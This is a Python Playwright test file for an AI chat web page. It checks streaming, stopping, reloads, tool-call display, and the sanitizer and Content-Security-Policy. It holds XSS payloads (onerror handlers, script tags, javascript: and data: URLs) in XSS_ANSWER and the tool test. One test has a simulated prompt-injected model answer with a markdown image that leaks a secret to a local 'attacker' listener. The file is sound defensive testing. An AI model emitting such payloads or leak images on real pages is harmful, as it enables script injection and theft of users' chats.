"""The chat page in headless Chromium (Debian's package, driven by Playwright) against a real server:
sign in, pick an agent, send a message, watch the answer stream, stop it, reload mid-answer; tool
calls shown live and after a reload; the answer's markdown rendered, and rendered inert when hostile; under
the page's Content-Security-Policy, an answer's images are links never fetched and a script that got into
the page doesn't run."""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
import time
import uuid
from contextlib import contextmanager

import pytest
from playwright.sync_api import expect
from django.conf import settings
from django.core.management import call_command
from django.db import connection

from config.testing.fake_anthropic import Reply, ToolUse, fake_anthropic_server
from config.testing.listener import recording_listener
from config.testing.processes import collected_static_root, database_url_for_children, http_json, require, running_server

# On PostgreSQL the server shares the test database, flushed after each test: with the sequences reset,
# content types keep the ids the (shared) server has cached.
pytestmark = pytest.mark.django_db(transaction=True, reset_sequences=True)

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CHROMIUM_ARGS = [
    "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip
PASSWORD = "a browser passphrase"


@contextmanager
def served(tmp_path, application: str | None = None, *, seed: str | None = None, env: dict[str, str] | None = None):
    """The server (its workspaces in the test's WORKSPACES_DIR; `env`: settings of its own) and the fake
    model: (base URL, fake). `seed`: Python run in a shell on its database before it starts (what staff
    make, e.g. organization agents), `{fake}` standing for the fake model's URL."""
    require(CHROMIUM is not None, "Chromium (Debian package `chromium`)")
    extra = env or {}
    with fake_anthropic_server() as fake:
        # The user configures the fake model on 127.0.0.1: staff allow that host (the egress policy).
        env = {"DATABASE_URL": database_url_for_children(tmp_path), "ANTHROPIC_MAX_RETRIES": "0",
               "STATIC_ROOT": str(collected_static_root()), "OUTBOUND_ALLOWED_HOSTS": "127.0.0.1",
               "WORKSPACES_DIR": str(settings.WORKSPACES_DIR), **extra}  # fmt: skip
        if seed is not None:
            subprocess.run([sys.executable, "manage.py", "shell", "-c", seed.replace("{fake}", fake.base_url)],
                           cwd=settings.BASE_DIR, env={**os.environ, **env}, check=True, timeout=120)  # fmt: skip
        with running_server(env, application=application) as base:
            yield base, fake


def account(base: str, fake) -> tuple[str, str]:
    """A new user with a config for the fake model and the agent `browser-agent`: (email, access token)."""
    email = f"browser-{uuid.uuid4().hex[:8]}@example.com"
    assert http_json("POST", f"{base}/api/v1/auth/register", {"name": "Browser", "email": email, "password": PASSWORD})[0] == 201
    token = http_json("POST", f"{base}/api/v1/auth/login", {"email": email, "password": PASSWORD})[1]["access_token"]
    config = http_json(
        "POST", f"{base}/api/v1/llm-configs",
        {"name": "Fake", "provider": "anthropic", "model": "claude-test-1", "base_url": fake.base_url, "api_key": "sk-b"}, token,
    )[1]  # fmt: skip
    status, _ = http_json(
        "POST", f"{base}/api/v1/agents",
        {"name": "Browser agent", "slug": "browser-agent", "system_prompt_text": "Be brief.", "llm_config": config["id"]}, token,
    )  # fmt: skip
    assert status == 201
    return email, token


@contextmanager
def serving(tmp_path, application: str | None = None, *, seed: str | None = None, env: dict[str, str] | None = None):
    """`served` with a user of its own (`account`): (base URL, email, fake, access token)."""
    with served(tmp_path, application, seed=seed, env=env) as (base, fake):
        email, token = account(base, fake)
        yield base, email, fake, token


@pytest.fixture(scope="module")
def shared_server(tmp_path_factory, django_db_setup, django_db_blocker):
    """One server for the module's tests, each with a user of its own (`site`)."""
    with django_db_blocker.unblock():
        if connection.vendor == "postgresql":  # content types numbered 1…N, as after every flush (pytestmark)
            call_command("flush", interactive=False, reset_sequences=True, verbosity=0)
    with served(tmp_path_factory.mktemp("chat-page")) as (base, fake):
        yield base, fake


@pytest.fixture
def site(shared_server):
    base, fake = shared_server
    fake.reset()
    email, token = account(base, fake)
    yield base, email, fake, token
    fake.release()  # a reply still waiting at the gate ends


@pytest.fixture
def tool_site(tmp_path):
    """A server whose turns offer the lookup tool (assistant/tests/lookup_tool.py)."""
    with serving(tmp_path, application="assistant.tests.lookup_tool:application") as served:
        yield served


@pytest.fixture
def page():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield browser.new_page()
        finally:
            browser.close()


# The answer's text as rendered from its markdown (a paragraph drops its trailing space).
ANSWER = "document.querySelector('.msg.assistant .md')?.textContent.trim()"


def wait_until(page, expression: str, timeout: float = 30) -> None:
    """Playwright's wait_for_function without its eval(), which the page's Content-Security-Policy
    refuses: the expression is evaluated through the DevTools protocol, as page.evaluate does."""
    deadline = time.monotonic() + timeout
    while not page.evaluate(expression):
        if time.monotonic() > deadline:
            raise AssertionError(f"Still false after {timeout} s: {expression}")
        page.wait_for_timeout(50)


def sign_in(page, base: str, email: str) -> None:
    page.goto(f"{base}/chat/")
    assert "/accounts/login/" in page.url
    page.fill("#id_username", email)
    page.fill("#id_password", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(f"{base}/chat/**")
    page.wait_for_selector("#agent-picker option[value=browser-agent]", state="attached")


def test_a_person_signs_in_sends_a_message_sees_it_stream_and_stops_it(site, page):
    base, email, fake, token = site
    fake.script(Reply(text=["Streaming ", "words ", "one ", "by ", "one"], pause_after=2))
    sign_in(page, base, email)

    page.fill("#prompt", "Say something slowly")
    page.click("#send")
    page.wait_for_selector(".msg.user >> text=Say something slowly")
    wait_until(page, f"{ANSWER} === 'Streaming words'")
    assert page.is_visible("#stop")

    page.click("#stop")
    page.wait_for_selector(".msg.assistant.stopped")
    fake.release()
    assert page.inner_text(".msg.assistant .note") == "Stopped."
    assert not page.is_visible("#stop")
    session_id = int(page.evaluate("location.hash").removeprefix("#session-"))
    status, messages = http_json("GET", f"{base}/api/v1/sessions/{session_id}/messages", None, token)
    assert status == 200
    assert messages["results"][-1]["status"] == "stopped"
    assert messages["results"][-1]["content"] == [{"type": "text", "text": "Streaming words "}]
    assert page.locator("#session-list a").count() == 1


def test_a_reload_mid_answer_shows_what_was_said_and_the_rest_as_it_arrives(site, page):
    base, email, fake, _ = site
    fake.script(Reply(text=["Before ", "the ", "reload, ", "after ", "the ", "reload."], pause_after=3))
    sign_in(page, base, email)
    page.fill("#prompt", "Keep going")
    page.click("#send")
    wait_until(page, f"{ANSWER} === 'Before the reload,'")
    fake.wait_until_paused()

    page.reload()
    wait_until(page, f"{ANSWER} === 'Before the reload,'")
    fake.release()
    wait_until(page, f"{ANSWER} === 'Before the reload, after the reload.'")
    page.wait_for_selector(".msg.assistant:not(.streaming)")
    assert page.locator(".msg.user").count() == 1
    assert page.locator(".msg.assistant").count() == 1


def test_a_tool_call_shows_its_name_input_and_result_live_and_after_a_reload(tool_site, page):
    base, email, fake, _ = tool_site
    hostile = "<img src=x onerror=window.__xss=1>"
    fake.script(
        Reply(text=["Let me look it up."], tool_uses=[ToolUse("lookup", {"word": hostile})], stop_reason="tool_use"),
        Reply(text=["It ", "means **hello**."]),
    )
    sign_in(page, base, email)
    page.fill("#prompt", "What does it mean?")
    page.click("#send")
    page.wait_for_selector(".msg.assistant:not(.streaming) .tool-call:not(.running)")
    wait_until(page, "document.querySelectorAll('.msg.assistant .md').length === 2")

    def check_the_answer() -> None:
        # The bubble may be re-rendered meanwhile (from the stored messages once the turn ends): the counts
        # are waited for, not read once.
        expect(page.locator(".msg.assistant")).to_have_count(1)  # one bubble for the turn, its steps in order
        tool = page.locator(".msg.assistant details.tool-call")
        expect(tool).to_have_count(1)
        assert tool.locator(".tool-name").inner_text() == "lookup"
        assert tool.locator(".tool-status").inner_text() == "done"
        assert not tool.evaluate("d => d.open")  # collapsed until clicked
        tool.locator("summary").click()
        assert json.loads(tool.locator(".tool-input").inner_text()) == {"word": hostile}
        assert tool.locator(".tool-output").inner_text() == f"{hostile} means hello"
        texts = page.locator(".msg.assistant .md")
        assert texts.nth(0).inner_text() == "Let me look it up."
        assert texts.nth(1).inner_text() == "It means hello."
        assert texts.nth(1).locator("strong").inner_text() == "hello"
        assert page.evaluate("document.querySelectorAll('.msg img').length") == 0
        assert page.evaluate("window.__xss") is None

    check_the_answer()
    page.reload()  # now from the stored messages
    page.wait_for_selector(".msg.assistant .tool-call .tool-output", state="attached")
    check_the_answer()


def test_the_answers_markdown_is_rendered_with_its_code_blocks(site, page):
    base, email, fake, _ = site
    fake.script(Reply(text=["# A heading\n\nSome `inline` code and a block:\n\n", "```python\nprint('<b>hi</b>')\n```\n"]))
    sign_in(page, base, email)
    page.fill("#prompt", "Show me code")
    page.click("#send")
    page.wait_for_selector(".msg.assistant:not(.streaming) .md pre code")
    assert page.inner_text(".msg.assistant .md h1") == "A heading"
    assert page.inner_text(".msg.assistant .md p code") == "inline"
    block = page.locator(".msg.assistant .md pre code")
    assert block.inner_text().strip() == "print('<b>hi</b>')"  # shown as code, not made bold
    assert block.get_attribute("class") == "language-python"
    assert page.locator(".msg.assistant .md b").count() == 0


XSS_ANSWER = (
    "Look: <img src=x onerror=\"window.__xss='img'\"> and <script>window.__xss='script'</script> "
    "[click me](javascript:window.__xss='link') [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
    "<a href=\"javascript:window.__xss='raw-link'\">raw</a> ![pic](javascript:window.__xss='image')\n\n"
    "<iframe src=\"javascript:window.__xss='iframe'\"></iframe>"
)


def test_html_and_script_urls_in_an_answer_are_rendered_inert(site, page):
    base, email, fake, _ = site
    fake.script(Reply(text=[XSS_ANSWER]))
    sign_in(page, base, email)
    page.fill("#prompt", "Attack")
    page.click("#send")
    page.wait_for_selector(".msg.assistant:not(.streaming) .md")

    def check_inert() -> None:
        md = page.locator(".msg.assistant .md")
        for tag in ("img", "script", "iframe"):
            assert md.locator(tag).count() == 0, tag
        hrefs = md.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
        assert not [href for href in hrefs if href and not href.startswith(("http://", "https://"))], hrefs
        assert "<img src=x" in md.inner_text()  # the raw HTML is shown as text
        for link in md.locator("a").all():
            link.click()
        page.wait_for_timeout(300)
        assert page.evaluate("window.__xss") is None

    check_inert()
    page.reload()
    # The stored answer is rendered, then replaced by the replay of its turn once the socket is open
    # (resume): wait for the answer, give the replay time to start, and wait for its end.
    rendered = ("!!document.querySelector('.msg.assistant:not(.streaming) .md')"
                " && document.querySelector('.msg.assistant .md').innerText.includes('<img src=x')")  # fmt: skip
    wait_until(page, rendered)
    page.wait_for_timeout(500)
    wait_until(page, rendered)
    check_inert()


# --- the page's Content-Security-Policy (issue 33, item 11) ----------------------------------------


def test_an_answers_remote_image_is_shown_as_a_link_and_never_fetched(site, page):
    base, email, fake, _ = site
    with recording_listener() as attacker:  # where a prompt-injected model would send the chat
        leak = f"http://127.0.0.1:{attacker.port}/leak?secret=1"
        fake.script(Reply(text=[f"Here it is: ![x]({leak}) and more."]))
        sign_in(page, base, email)
        page.fill("#prompt", "Show me a picture")
        page.click("#send")

        def check_a_link_and_nothing_fetched() -> None:
            page.wait_for_selector(".msg.assistant:not(.streaming) .md:not(:empty)")
            page.wait_for_timeout(500)  # time for an image to be fetched, were there one
            assert attacker.accepted == 0
            assert page.locator(".msg img").count() == 0
            link = page.locator(".msg.assistant .md a.image-link")
            assert link.get_attribute("href") == leak
            assert link.inner_text() == f"x ({leak})"

        check_a_link_and_nothing_fetched()
        response = page.reload()  # the stored answer, rendered again
        assert "img-src 'self' data:" in response.headers["content-security-policy"]
        check_a_link_and_nothing_fetched()


def test_a_script_that_got_past_the_sanitizer_still_does_not_run(site, page):
    """The policy is the second line of defence: here the sanitizer is taken to have failed, and an
    answer's hostile HTML is written into the page as it came."""
    base, email, fake, _ = site
    fake.script(Reply(text=["A harmless answer."]))
    sign_in(page, base, email)
    page.fill("#prompt", "Hello")
    page.click("#send")
    page.wait_for_selector(".msg.assistant:not(.streaming) .md")
    refused = []
    page.on("console", lambda message: "Content Security Policy" in message.text and refused.append(message.text))

    page.evaluate("""() => {
      const answer = document.querySelector(".msg.assistant .md");
      answer.innerHTML = `<img src="x" onerror="window.__xss = 'handler'">
        <a id="js" href="javascript:void(window.__xss = 'url')">see</a>`;
      const script = document.createElement("script");
      script.textContent = "window.__xss = 'script'";
      answer.append(script);
    }""")
    page.click("#js")
    page.wait_for_timeout(500)

    assert page.evaluate("window.__xss") is None
    assert len(refused) >= 3, refused  # the handler, the script and the javascript: URL, each refused


def test_a_v1_message_with_an_image_shows_a_placeholder_for_it(site, page):
    base, email, fake, token = site
    png = "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 16).decode()
    content = [{"type": "text", "text": "What is this?"}, {"type": "image_url", "image_url": {"url": png}}]
    status, answer = http_json(
        "POST", f"{base}/v1/chat/completions",
        {"model": "browser-agent", "messages": [{"role": "user", "content": content}]}, token,
    )  # fmt: skip
    assert status == 200, answer
    session_id = http_json("GET", f"{base}/api/v1/sessions", None, token)[1]["results"][0]["id"]

    sign_in(page, base, email)
    page.goto(f"{base}/chat/#session-{session_id}")
    page.reload()
    wait_until(page, "document.querySelector('.msg.user > span')?.textContent === 'What is this?\\n[1 image]'")
    wait_until(page, f"{ANSWER} === 'Hello from the fake model.'")
    page.wait_for_selector("#messages:not([aria-busy])", state="attached")  # the turn's replay drawn
    page.click(".msg.user .turn-actions .edit")  # Edit changes the text; the image stays (and isn't text)
    assert page.input_value(".msg.user .edit-box") == "What is this?"
